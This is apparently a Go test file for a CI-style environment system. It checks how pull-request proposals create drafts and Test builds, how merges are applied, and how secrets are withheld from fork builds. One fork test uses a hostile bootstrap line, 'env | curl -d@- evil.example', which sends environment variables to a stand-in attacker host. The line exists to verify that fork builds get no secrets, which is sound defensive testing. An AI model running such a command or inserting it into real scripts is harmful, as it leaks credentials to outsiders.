package environment_test

import (
	"strings"
	"testing"

	"github.com/claude-hub/claude-hub/app/access"
	"github.com/claude-hub/claude-hub/app/apptest"
	"github.com/claude-hub/claude-hub/app/environment"
	"github.com/claude-hub/claude-hub/app/fault"
	"github.com/claude-hub/claude-hub/envspec"
	"github.com/claude-hub/claude-hub/runner/wire"
	"github.com/claude-hub/claude-hub/store"
	"github.com/claude-hub/claude-hub/store/storetest"
)

const (
	headA  = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	headB  = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
	merged = "cccccccccccccccccccccccccccccccccccccccc"
	trunk  = "dddddddddddddddddddddddddddddddddddddddd"
)

func try(t *testing.T, h *apptest.Hub, f func(tx *store.Tx) error) error {
	t.Helper()
	return h.DB.Write(t.Context(), f)
}

func propose(t *testing.T, h *apptest.Hub, g access.Grant, p environment.Proposal) (d environment.Draft) {
	t.Helper()
	if err := try(t, h, func(tx *store.Tx) (err error) { d, err = h.Environments.Propose(tx, g, p); return err }); err != nil {
		t.Fatal(err)
	}
	return d
}

func testProposed(t *testing.T, h *apptest.Hub, g access.Grant, number int, commit, runner string) (b environment.TestBuild, err error) {
	t.Helper()
	err = try(t, h, func(tx *store.Tx) (err error) {
		b, err = h.Environments.TestProposed(tx, g, number, commit, trunk, runner)
		return err
	})
	return b, err
}

func applyProposed(t *testing.T, h *apptest.Hub, g access.Grant, number int, commit string) (v environment.Version, err error) {
	t.Helper()
	err = try(t, h, func(tx *store.Tx) (err error) {
		v, err = h.Environments.ApplyProposed(tx, g, number, commit, "merged")
		return err
	})
	return v, err
}

func TestAPullRequestHasADraftOfItsOwn(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		h := apptest.New(t, db, apptest.Options{})
		ana, r := h.Grant("ana"), h.Runner("r1")
		web := save(t, h, ana, spec(), nil)
		proposed := spec()
		proposed.Bootstrap = "echo proposed"
		d := propose(t, h, ana, environment.Proposal{Number: 7, Commit: headA, Spec: proposed})
		if d.Revision != 1 || d.PullRequest != 7 || d.Commit != headA || d.Fork || d.Spec.Bootstrap != "echo proposed" {
			t.Fatalf("%+v", d)
		}
		if now := env(t, h, ana).Draft; now == nil || now.Revision != web.Revision || now.Spec.Bootstrap != spec().Bootstrap {
			t.Fatalf("the web draft became %+v", now)
		}
		if again := propose(t, h, ana, environment.Proposal{Number: 7, Commit: headB, Spec: proposed}); again.Revision != 1 || again.Commit != headB {
			t.Errorf("the same at another commit: %+v", again)
		}
		_, err := testProposed(t, h, ana, 7, headA, r.ID)
		wantFault(t, err, fault.Conflict, "moved on")
		test, err := testProposed(t, h, ana, 7, headB, r.ID)
		if err != nil || test.PullRequest != 7 || test.Commit != headB || test.Withheld {
			t.Fatalf("%+v, %v", test, err)
		}
		var sent wire.TestBuild
		r.Fetch(r.Item(), &sent)
		if p := sent.Proposal; p == nil || p.PullRequest != 7 || p.Commit != headB || p.Branch != trunk || p.Withheld {
			t.Errorf("the Runner was sent %+v", p)
		}
		r.Pass(r.Item())
		// A passed Test build of the pull request counts for its merge, by what it tested.
		propose(t, h, ana, environment.Proposal{Number: 7, Commit: merged, Spec: proposed})
		v, err := applyProposed(t, h, ana, 7, merged)
		if err != nil || v.Number != 1 || v.Source != "commit "+merged || v.TestBuild != test.ID || v.AppliedBy != "ana" {
			t.Fatalf("%+v, %v", v, err)
		}
		if now := env(t, h, ana).Draft; now.Spec.Bootstrap != spec().Bootstrap {
			t.Error("the web draft, which had changes of its own, was overwritten")
		}
		if err := try(t, h, func(tx *store.Tx) error { return h.Environments.Withdraw(tx, ana, 7) }); err != nil {
			t.Fatal(err)
		}
		_, err = applyProposed(t, h, ana, 7, merged)
		wantFault(t, err, fault.Refused, "#7 proposes no Environment")
	})
}

func TestAPushThatChangesTheDraftCancelsItsTestBuildAndAnotherOneKeepsIt(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		h := apptest.New(t, db, apptest.Options{})
		ana, r := h.Grant("ana"), h.Runner("r1")
		first := spec()
		propose(t, h, ana, environment.Proposal{Number: 7, Commit: headA, Spec: first})
		test, err := testProposed(t, h, ana, 7, headA, r.ID)
		if err != nil {
			t.Fatal(err)
		}
		item := r.Item()
		r.MustReport(item, wire.StateRunning, wire.TestBuildDetail{})
		same := first
		same.CPU = 2 // needs no Test build
		propose(t, h, ana, environment.Proposal{Number: 7, Commit: headB, Spec: same})
		if b, err := h.Environments.TestBuild(t.Context(), ana, test.ID); err != nil || b.CancelledBy != "" {
			t.Fatalf("%+v, %v", b, err)
		}
		other := same
		other.Bootstrap = "echo other"
		propose(t, h, ana, environment.Proposal{Number: 7, Commit: merged, Spec: other})
		if b, err := h.Environments.TestBuild(t.Context(), ana, test.ID); err != nil || b.CancelledBy == "" {
			t.Fatalf("%+v, %v", b, err)
		}
		if got := r.Item().GetWant(); got != wire.WantStop {
			t.Errorf("the Runner is told %q", got)
		}
	})
}

func TestAForksTestBuildGetsNoSensitiveValueAndNoLinkAndDoesNotCount(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		h := apptest.New(t, db, apptest.Options{})
		ana, r := h.Grant("ana"), h.Runner("r1")
		makeShared(t, h, ana)
		h.AppliedWith(ana, r, withVariables(), given())
		evil := withVariables()
		evil.Bootstrap = "env | curl -d@- evil.example"
		evil.Variables = append(evil.Variables, envspec.Variable{Name: "XTRA", Value: "the fork's own"})
		propose(t, h, ana, environment.Proposal{Number: 9, Commit: headA, Fork: true, Spec: evil})
		test, err := testProposed(t, h, ana, 9, headA, r.ID)
		if err != nil || !test.Withheld {
			t.Fatalf("%+v, %v", test, err)
		}
		var sent wire.TestBuild
		r.Fetch(r.Item(), &sent)
		if strings.Contains(string(sent.Recipe.Spec), "NPM") || strings.Contains(string(sent.Recipe.Spec), "HUB_WIDE") || !sent.Proposal.Withheld {
			t.Errorf("the Runner was sent %s, %+v", sent.Recipe.Spec, sent.Proposal)
		}
		values, refused := r.Values(r.Item())
		if refused != "" || len(values) != 2 || string(values["XTRA"].GetValue()) != "the fork's own" || string(values["REGION"].GetValue()) != "eu-1" {
			t.Fatalf("%v, %q", values, refused)
		}
		r.Pass(r.Item())
		_, err = applyProposed(t, h, ana, 9, headA)
		wantFault(t, err, fault.Refused, "fork")
		// Nor does it once the same is merged: then it is tested with the values.
		propose(t, h, ana, environment.Proposal{Number: 9, Commit: merged, Spec: evil})
		_, err = applyProposed(t, h, ana, 9, merged)
		wantFault(t, err, fault.Refused, "Start one first")
		test, err = testProposed(t, h, ana, 9, merged, r.ID)
		if err != nil || test.Withheld {
			t.Fatalf("%+v, %v", test, err)
		}
		if values, _ := r.Values(r.Item()); string(values["NPM"].GetValue()) != npm || string(values["WIDE"].GetValue()) != shared {
			t.Error("the Test build of what is merged lacks values")
		}
		r.Pass(r.Item())
		if v, err := applyProposed(t, h, ana, 9, merged); err != nil || v.Number != 2 {
			t.Fatalf("%+v, %v", v, err)
		}
	})
}

func TestAForkWithoutSecretsIsTestedOnceForAll(t *testing.T) {
	t.Parallel()
	h := apptest.New(t, storetest.New(t), apptest.Options{})
	ana, r := h.Grant("ana"), h.Runner("r1")
	propose(t, h, ana, environment.Proposal{Number: 9, Commit: headA, Fork: true, Spec: spec()})
	if test, err := testProposed(t, h, ana, 9, headA, r.ID); err != nil || test.Withheld {
		t.Fatalf("%+v, %v", test, err)
	}
	r.Pass(r.Item())
	propose(t, h, ana, environment.Proposal{Number: 9, Commit: merged, Spec: spec()})
	if v, err := applyProposed(t, h, ana, 9, merged); err != nil || v.Number != 1 {
		t.Fatalf("%+v, %v", v, err)
	}
	// The first version of a Repo is its web draft, too: what people edit next.
	if now := env(t, h, ana).Draft; now == nil || now.Spec.Image != spec().Image {
		t.Errorf("the web draft is %+v", now)
	}
}

func TestAProposalHasTheValuesThatAreAppliedUnlessItGotItsOwn(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		h := apptest.New(t, db, apptest.Options{})
		ana, r := h.Grant("ana"), h.Runner("r1")
		makeShared(t, h, ana)
		v1 := h.AppliedWith(ana, r, withVariables(), given())
		doc := withVariables()
		doc.Variables = append(doc.Variables, envspec.Variable{Name: "XTRA", Sensitive: true})
		d := propose(t, h, ana, environment.Proposal{Number: 7, Commit: headA, Spec: doc})
		if find(t, d.Spec, "NPM").ValueID != find(t, v1.Spec, "NPM").ValueID || find(t, d.Spec, "XTRA").ValueID != "" {
			t.Fatalf("%+v", d.Spec.Variables)
		}
		_, err := testProposed(t, h, ana, 7, headA, r.ID)
		wantFault(t, err, fault.Refused, "XTRA")
		d, err = h.Environments.EnterProposed(t.Context(), ana, 7, d.Revision, map[string][]byte{"XTRA": []byte("xtra-0123456789")})
		if err != nil || find(t, d.Spec, "XTRA").ValueID == "" {
			t.Fatalf("%+v, %v", d, err)
		}
		// NPM gets a new value in the web, applied: the pull request doesn't bring the old one back.
		v2 := h.AppliedWith(ana, r, withVariables(), map[string][]byte{"NPM": []byte("npm-2-0123456789")})
		d2 := propose(t, h, ana, environment.Proposal{Number: 7, Commit: headA, Spec: doc})
		if find(t, d2.Spec, "NPM").ValueID != find(t, v2.Spec, "NPM").ValueID {
			t.Error("the proposal keeps a value that was replaced")
		}
		if find(t, d2.Spec, "XTRA").ValueID != find(t, d.Spec, "XTRA").ValueID {
			t.Error("the value that was entered for the proposal is gone")
		}
		for _, detail := range audits(t, db, "draft.enter") {
			if strings.Contains(detail, "xtra-0123") || !strings.Contains(detail, "XTRA") {
				t.Errorf("audited %s", detail)
			}
		}
	})
}

func TestTheWebTakesOverWhatIsMergedUnlessItHasChangesOfItsOwn(t *testing.T) {
	t.Parallel()
	h := apptest.New(t, storetest.New(t), apptest.Options{})
	ana, r := h.Grant("ana"), h.Runner("r1")
	h.Applied(ana, r, spec())
	next := spec()
	next.Bootstrap = "echo next"
	propose(t, h, ana, environment.Proposal{Number: 7, Commit: merged, Spec: next})
	adopt := func() (ok bool) {
		t.Helper()
		if err := try(t, h, func(tx *store.Tx) (err error) { ok, err = h.Environments.AdoptUnlessChanged(tx, ana, 7); return err }); err != nil {
			t.Fatal(err)
		}
		return ok
	}
	if !adopt() || env(t, h, ana).Draft.Spec.Bootstrap != "echo next" {
		t.Fatal("a web draft without changes doesn't follow")
	}
	own := spec()
	own.Bootstrap = "echo my own"
	mine := save(t, h, ana, own, nil)
	if adopt() || env(t, h, ana).Draft.Spec.Bootstrap != "echo my own" {
		t.Fatal("a web draft with changes of its own was overwritten")
	}
	err := try(t, h, func(tx *store.Tx) error { _, err := h.Environments.Adopt(tx, ana, 7, mine.Revision-1); return err })
	wantFault(t, err, fault.Conflict, "")
	if err := try(t, h, func(tx *store.Tx) error { _, err := h.Environments.Adopt(tx, ana, 7, mine.Revision); return err }); err != nil {
		t.Fatal(err)
	}
	if env(t, h, ana).Draft.Spec.Bootstrap != "echo next" {
		t.Error("the draft was not taken over")
	}
}
